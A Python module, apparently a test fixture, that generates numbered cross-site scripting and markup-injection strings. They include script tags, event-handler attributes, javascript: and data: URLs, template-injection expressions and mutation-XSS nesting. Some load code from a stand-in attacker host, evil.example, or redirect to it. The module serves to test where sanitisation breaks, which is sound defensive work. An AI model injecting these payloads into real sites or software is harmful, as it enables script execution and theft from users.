"""Texts that would run or load something wherever text is taken for markup, script or address; no two alike."""

from __future__ import annotations

import random

TAGS = ("img", "svg", "video", "audio", "body", "iframe", "object", "embed", "math", "details", "marquee", "input", "a")
EVENTS = ("onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onbegin", "onanimationstart", "onclick")
SHAPES = (
    "<script>{call}</script>",
    "<script src={away}></script>",
    "<{tag} {event}={call}>",
    "<{tag} src={away} {event}={call}>",
    "<{tag}/{event}={call}//",
    "<svg><{tag} {event}={call}></svg>",
    '"><{tag} src=x {event}="{call}">',
    "'-{call}-'",
    "</textarea><script>{call}</script>",
    "</title><img src={away}>",
    '<a href="javascript:{call}">open</a>',
    "javascript:{call}",
    "[open](javascript:{call})",
    "data:text/html,<script>{call}</script>",
    '<iframe srcdoc="<script>parent.__ran({n})</script>"></iframe>',
    "<style>@import '{away}';</style>",
    "<link rel=stylesheet href={away}>",
    '<meta http-equiv=refresh content="0;url={away}">',
    "<base href={away}>",
    "{{{{constructor.constructor('{call}')()}}}}",
    "${{{call}}}",
    "<noscript><p title='</noscript><img src=x {event}={call}>'>",
    "<math><mtext><table><mglyph><style><img src=x {event}={call}>",
    "*<img src=x {event}={call}>* ~```<b>```~ {away}",
    "\u202e<{tag} {event}={call}>\u2028",
)
NUMBERED = r"/ran\(\\?'?(\d+)|evil\.example\/(\d+)/gi"
"""What is left of a text's number wherever it is shown, as a JavaScript expression."""


class Hostile:
    """An endless source of such texts; each has its number in it."""

    def __init__(self, seed: int) -> None:
        """Begin with a seed."""
        self.count = 0
        self._random = random.Random(seed)

    def __next__(self) -> str:
        """Return the next."""
        self.count += 1
        chance = self._random
        facts = {"n": self.count, "tag": chance.choice(TAGS), "event": chance.choice(EVENTS)}
        call, away = f"window.__ran('{self.count}')", f"https://evil.example/{self.count}"
        text = chance.choice(SHAPES).format(**facts, call=call, away=away)
        return "".join(chance.choice((str.upper, str.lower))(sign) for sign in text) if chance.random() < 0.1 else text

    def take(self, count: int) -> list[str]:
        """Return the next few."""
        return [next(self) for _ in range(count)]
